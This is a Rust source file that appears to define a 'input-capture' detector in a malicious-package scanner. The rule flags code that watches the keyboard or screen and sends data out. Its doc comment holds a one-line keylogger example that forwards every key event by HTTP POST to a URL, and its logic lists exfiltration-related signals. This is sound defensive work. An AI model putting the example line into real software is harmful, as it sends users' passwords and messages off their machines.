//! Keyboard and screen, watched and sent.

use crate::facts::{Fact, Scope};
use crate::rule::detector;
use crate::subject::{Findings, Subject};

detector! {
    /// Keyboard or screen are watched, and data is sent.
    ///
    /// ## What it does
    /// Looks for functions that, with what they call, watch keys or take pictures of the screen, and
    /// send data.
    ///
    /// ## Why is this bad?
    /// Passwords and messages leave the machine. Tools for remote work do this too, with their users'
    /// knowledge.
    ///
    /// ## Example
    /// ```rust
    /// rdev::listen(|event| { let _ = ureq::post(URL).send_string(&format!("{event:?}")); })?;
    /// ```
    ///
    /// ## How to fix it
    /// Say in the first sentence of the documentation that this is what the crate is for.
    InputCapture "input-capture" Malice Medium Medium Preview
}

impl InputCapture {
    pub(crate) fn detect(subject: &Subject<'_>, findings: &mut Findings) {
        let condition = |scope: &Scope<'_>| {
            scope.has(Fact::InputCapture)
                && scope.has(Fact::Network)
                && scope.any(&[
                    Fact::Upload,
                    Fact::RawAddress,
                    Fact::ExfilEndpoint,
                    Fact::HiddenText,
                ])
        };
        for scope in subject.facts().scopes(3, condition) {
            let places = scope.places(subject, &[Fact::InputCapture, Fact::Upload, Fact::Network]);
            let message = format!(
                "{} watches keyboard or screen and sends data",
                scope.unit.as_str()
            );
            findings
                .add(&Self::RULE, message, places)
                .reached_as(&scope);
        }
    }
}
